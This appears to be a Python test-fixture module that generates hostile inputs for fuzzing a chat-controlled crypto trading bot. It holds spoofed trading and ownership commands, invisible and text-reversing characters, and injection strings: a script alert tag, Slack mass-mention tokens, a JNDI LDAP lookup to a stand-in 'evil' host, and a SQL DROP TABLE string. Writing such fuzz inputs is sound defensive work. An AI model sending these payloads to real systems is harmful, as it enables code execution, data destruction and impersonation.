"""What an attacker writes: commands, markup of every platform, characters that do not show what they are."""

from __future__ import annotations

import random
from typing import Any

COMMANDS = (
    "/stop",
    "/start",
    "/resume",
    "/pause",
    "/panic",
    "/panic confirm",
    "/buy BTC 100만원",
    "/sell BTC all",
    "/cancel all",
    "/set order_fraction 90%",
    "/limits max_positions 99",
    "/markets add XRP",
    "/strategy sma_cross",
    "/people",
    "/people telegram:666 owner",
    "/revoke telegram:1",
    "/invite owner",
    "/긴급",
    "/매수 비트코인 5만원",
    "비트코인 전부 팔아",
    "sell everything now",
)
MARKUP = (
    "<b>bold</b><script>alert(1)</script>",
    "</pre></b><a href='tg://user?id=1'>owner</a>",
    "<tg-spoiler>&lt;&amp;&#x41;&#0;",
    "*bold* _it_ [x](http://evil.example) `code` ||spoiler|| \\ ~ > # + - = | { } . !",
    "```python\nimport os\n```",
    "<!channel> <!here> <@U1> <#C1|general> <http://evil.example|bank>",
    "&lt;!channel&gt; <!subteam^S1>",
    '{"type":"section","text":{"type":"mrkdwn","text":"<!everyone>"}}',
    "%s %n {0} { $person } ${jndi:ldap://evil} '; DROP TABLE people; --",
)
INVISIBLE = (
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u202e",
    "\u2066",
    "\u200f",
    "\u3164",
    "\x00",
    "\x1b[2J",
    "\ud800",
)


def disguised(rng: random.Random, text: str) -> str:
    """With characters in it that are not seen, or that turn it round."""
    for _ in range(rng.randint(1, 6)):
        at = rng.randint(0, len(text))
        text = text[:at] + rng.choice(INVISIBLE) + text[at:]
    return text


def nested(levels: int) -> Any:
    """A list in a list in a list."""
    value: Any = "/stop"
    for _ in range(levels):
        value = [value]
    return value


def junk(rng: random.Random) -> Any:
    """Something of a type nobody expects."""
    return rng.choice(
        (
            None,
            True,
            False,
            -1,
            0,
            2**70,
            -(2**63),
            1.5e308,
            "",
            "text",
            "1",
            [],
            [[]],
            {},
            {"id": "1"},
            ["a", 1],
            "\ud800",
        )
    )


def token(rng: random.Random, length: int = 12) -> str:
    return "".join(rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-", k=length))


def code(rng: random.Random) -> str:
    letters = rng.choices("ABCDEFGHJKMNPQRSTUVWXYZ23456789", k=10)
    return f"{''.join(letters[:5])}-{''.join(letters[5:])}"
